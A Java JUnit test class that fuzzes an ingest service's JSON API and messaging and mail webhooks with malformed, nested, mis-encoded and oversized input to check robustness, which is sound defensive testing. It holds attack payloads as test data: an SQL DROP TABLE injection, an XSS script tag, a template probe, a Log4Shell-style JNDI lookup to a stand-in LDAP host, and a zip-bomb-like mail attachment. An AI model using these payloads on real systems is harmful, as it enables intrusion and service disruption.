package io.madoguchi.ingest;

import static io.restassured.RestAssured.given;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Function;

import org.junit.jupiter.api.Test;

import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Hostile input, generated and mutated with jqwik, against the JSON API and the chat, LINE, Slack and mail webhooks (each request
 * correctly authenticated, so the parsers behind the checks are what is attacked): malformed and deeply nested
 * JSON, invalid UTF-8, wrong types, huge fields, injection text, MIME with thousands of parts, nested messages and
 * charset lies. Every answer must be a 2xx or a clear 4xx without a stack trace, never a 5xx; nothing refused may
 * become an event; the service must still take the next good request.
 */
@QuarkusTest
@WithTestResource(IngestTestResource.class)
class HostileInputTest {

    private static final int PER_KIND = 40;
    private static final String INJECTION = "'; DROP TABLE inquiry; -- <script>alert(1)</script> {{7*7}} ${jndi:ldap://x/a} \u0000";

    private record Outcome(String endpoint, String kind, int status, String body) {
    }

    private final List<Outcome> outcomes = new ArrayList<>();

    @Test
    void everyHostileInputGetsAClearAnswerAndTheServiceGoesOn() {
        String run = UUID.randomUUID().toString();
        Map<String, Function<byte[], Response>> endpoints = Map.of(
                "json-api", body -> given().contentType("application/json").header("X-Api-Key", "test-crm-key").body(body)
                        .when().post("/api/v1/inquiries"),
                "chat", body -> given().contentType("application/json")
                        .header("X-Madoguchi-Signature", Signatures.madoguchi(IngestTestResource.CHAT_SECRET, Signatures.now(), body))
                        .body(body).when().post("/webhooks/chat/widget"),
                "line", body -> given().contentType("application/json")
                        .header("X-Line-Signature", Signatures.line(IngestTestResource.LINE_CHANNEL_SECRET, new String(body, UTF_8)))
                        .body(body).when().post("/webhooks/line"),
                "slack", body -> {
                    long now = Signatures.now();
                    return given().contentType("application/json").header("X-Slack-Request-Timestamp", now)
                            .header("X-Slack-Signature", Signatures.slack(IngestTestResource.SLACK_SIGNING_SECRET, now, new String(body, UTF_8)))
                            .body(body).when().post("/webhooks/slack/events");
                },
                "email", body -> given().contentType("message/rfc822")
                        .header("X-Madoguchi-Signature", Signatures.madoguchi(IngestTestResource.MAIL_GATEWAY_SECRET, Signatures.now(), body))
                        .body(body).when().post("/webhooks/email/mx"));

        byte[] validJson = ("{\"channel\":\"api\",\"requester\":{\"email\":\"h@example.jp\"},\"subject\":\"s " + run + "\",\"body\":\"b\"}").getBytes(UTF_8);
        for (var endpoint : endpoints.entrySet()) {
            for (var kind : kinds(validJson, endpoint.getKey()).entrySet()) {
                for (byte[] body : kind.getValue()) {
                    Response response = endpoint.getValue().apply(body);
                    outcomes.add(new Outcome(endpoint.getKey(), kind.getKey(), response.statusCode(), response.asString()));
                }
            }
        }
        for (byte[] raw : mime(run)) {
            Response response = endpoints.get("email").apply(raw);
            outcomes.add(new Outcome("email", "mime", response.statusCode(), response.asString()));
        }

        Map<String, Map<Integer, Integer>> table = new TreeMap<>();
        for (Outcome o : outcomes) {
            table.computeIfAbsent(o.endpoint() + " / " + o.kind(), k -> new TreeMap<>()).merge(o.status(), 1, Integer::sum);
            assertTrue(o.status() < 500, o.endpoint() + " " + o.kind() + " answered " + o.status() + ": " + o.body());
            assertFalse(o.body().contains("\tat ") || o.body().contains("Exception") || o.body().contains("io.madoguchi."),
                    o.endpoint() + " " + o.kind() + " leaked internals: " + o.body());
        }
        table.forEach((k, v) -> System.out.printf("%-32s %s%n", k, v));
        System.out.printf("hostile inputs tried: %d%n", outcomes.size());

        // nothing the service refused became an event: the only events mentioning the run are accepted ones
        long accepted = outcomes.stream().filter(o -> o.status() / 100 == 2).count();
        int events = InquiryEvents.mentioning(run, 0).size();
        assertTrue(events <= accepted, events + " events for " + accepted + " accepted requests");
        // and the service goes on
        given().contentType("application/json").header("X-Api-Key", "test-crm-key").body(validJson).when().post("/api/v1/inquiries")
                .then().statusCode(202);
        assertEquals(200, given().when().get("/q/health/ready").statusCode());
    }

    /** Per kind of hostility, the bodies to try: random, structural, encoding and mutations of a valid body. */
    private static Map<String, List<byte[]>> kinds(byte[] valid, String endpoint) {
        Map<String, List<byte[]>> kinds = new TreeMap<>();
        kinds.put("random-bytes", Arbitraries.bytes().array(byte[].class).ofMinSize(0).ofMaxSize(2_000).sampleStream().limit(PER_KIND).toList());
        kinds.put("random-text", Arbitraries.strings().all().ofMaxLength(2_000).map(s -> s.getBytes(UTF_8)).sampleStream().limit(PER_KIND).toList());
        kinds.put("mutated", mutations(valid).sampleStream().limit(PER_KIND * 2).toList());
        kinds.put("nested", Arbitraries.integers().between(100, 100_000).map(depth -> ("[".repeat(depth) + "]".repeat(depth)).getBytes(UTF_8))
                .sampleStream().limit(8).toList());
        kinds.put("nested-object", Arbitraries.integers().between(100, 50_000)
                .map(depth -> ("{\"a\":".repeat(depth) + "1" + "}".repeat(depth)).getBytes(UTF_8)).sampleStream().limit(8).toList());
        kinds.put("wrong-types", Arbitraries.of("{\"channel\":1}", "{\"requester\":\"x\"}", "{\"body\":[1,2]}", "{\"subject\":{\"a\":1}}",
                "{\"channel\":\"api\",\"requester\":{\"email\":[]},\"body\":true}", "[]", "null", "\"string\"", "42", "{\"transcript\":\"x\"}",
                "{\"events\":{}}", "{\"destination\":1,\"events\":[null]}").map(s -> s.getBytes(UTF_8)).sampleStream().limit(24).toList());
        kinds.put("invalid-utf8", Arbitraries.bytes().between((byte) 0x80, (byte) 0xFF).array(byte[].class).ofMinSize(1).ofMaxSize(50)
                .map(bad -> concat("{\"channel\":\"api\",\"requester\":{\"email\":\"h@example.jp\"},\"body\":\"".getBytes(UTF_8), bad, "\"}".getBytes(UTF_8)))
                .sampleStream().limit(PER_KIND).toList());
        kinds.put("injection", Arbitraries.of("subject", "body", "email").map(field -> ("{\"channel\":\"api\",\"requester\":{\"email\":\""
                + ("email".equals(field) ? INJECTION.replace("\"", "") : "h@example.jp") + "\"},\"subject\":\"" + ("subject".equals(field) ? INJECTION : "s")
                + "\",\"body\":\"" + ("body".equals(field) ? INJECTION : "b") + "\"}").replace("\u0000", "\\u0000").getBytes(UTF_8))
                .sampleStream().limit(6).toList());
        kinds.put("huge-field", List.of(("{\"channel\":\"api\",\"requester\":{\"email\":\"h@example.jp\"},\"body\":\"" + "あ".repeat(300_000) + "\"}").getBytes(UTF_8)));
        return kinds;
    }

    /** A valid body with characters inserted, deleted or replaced at random places. */
    private static Arbitrary<byte[]> mutations(byte[] valid) {
        String text = new String(valid, UTF_8);
        return Arbitraries.integers().between(1, 8).flatMap(edits -> Arbitraries.integers().between(0, text.length() - 1).list().ofSize(edits)
                .flatMap(positions -> Arbitraries.of("", "\"", "{", "}", "[", "]", ",", ":", "\\", "\u0000", "\uD800", "💥", "null").list().ofSize(edits)
                        .map(replacements -> {
                            StringBuilder mutated = new StringBuilder(text);
                            for (int i = 0; i < edits; i++) {
                                int at = Math.min(positions.get(i), mutated.length() - 1);
                                mutated.replace(at, at + 1, replacements.get(i));
                            }
                            return mutated.toString().getBytes(UTF_8);
                        })));
    }

    /** Mail no gateway should send: thousands of parts, nesting, charset lies, a bomb-like attachment. */
    private static List<byte[]> mime(String run) {
        List<byte[]> mails = new ArrayList<>();
        StringBuilder parts = new StringBuilder(header(run, "multipart/mixed; boundary=b"));
        for (int i = 0; i < 5_000; i++) {
            parts.append("--b\r\nContent-Type: text/plain\r\n\r\npart ").append(i).append("\r\n");
        }
        mails.add(parts.append("--b--\r\n").toString().getBytes(UTF_8));
        String nested = "Content-Type: text/plain\r\n\r\ninnermost\r\n";
        for (int i = 0; i < 200; i++) {
            nested = "Content-Type: message/rfc822\r\n\r\nFrom: x@example.jp\r\nSubject: level " + i + "\r\n" + nested;
        }
        mails.add((header(run, "multipart/mixed; boundary=n") + "--n\r\n" + nested + "--n--\r\n").getBytes(UTF_8));
        mails.add((header(run, "text/plain; charset=ISO-2022-JP") + "これは UTF-8 です\r\n").getBytes(UTF_8));
        mails.add((header(run, "text/plain; charset=x-no-such-charset") + "hello\r\n").getBytes(UTF_8));
        mails.add((header(run, "multipart/mixed; boundary=z") + "--z\r\nContent-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                + "UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAAIAAAAYm9tYi50eHTtwTEBAAAAwqD1T20ND6AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\r\n".repeat(2_000)
                + "--z--\r\n").getBytes(UTF_8));
        mails.add((header(run, "multipart/mixed; boundary=unterminated") + "--unterminated\r\nContent-Type: text/plain\r\n\r\nno end").getBytes(UTF_8));
        mails.add(("Subject: no headers end").getBytes(UTF_8));
        return mails;
    }

    private static String header(String run, String contentType) {
        return "From: Hanako <hanako@example.jp>\r\nTo: support@example.com\r\nSubject: hostile " + run + "\r\nMessage-ID: <" + UUID.randomUUID()
                + "@example.jp>\r\nMIME-Version: 1.0\r\nContent-Type: " + contentType + "\r\n\r\n";
    }

    private static byte[] concat(byte[]... arrays) {
        int length = 0;
        for (byte[] a : arrays) {
            length += a.length;
        }
        byte[] out = new byte[length];
        int at = 0;
        for (byte[] a : arrays) {
            System.arraycopy(a, 0, out, at, a.length);
            at += a.length;
        }
        return out;
    }
}
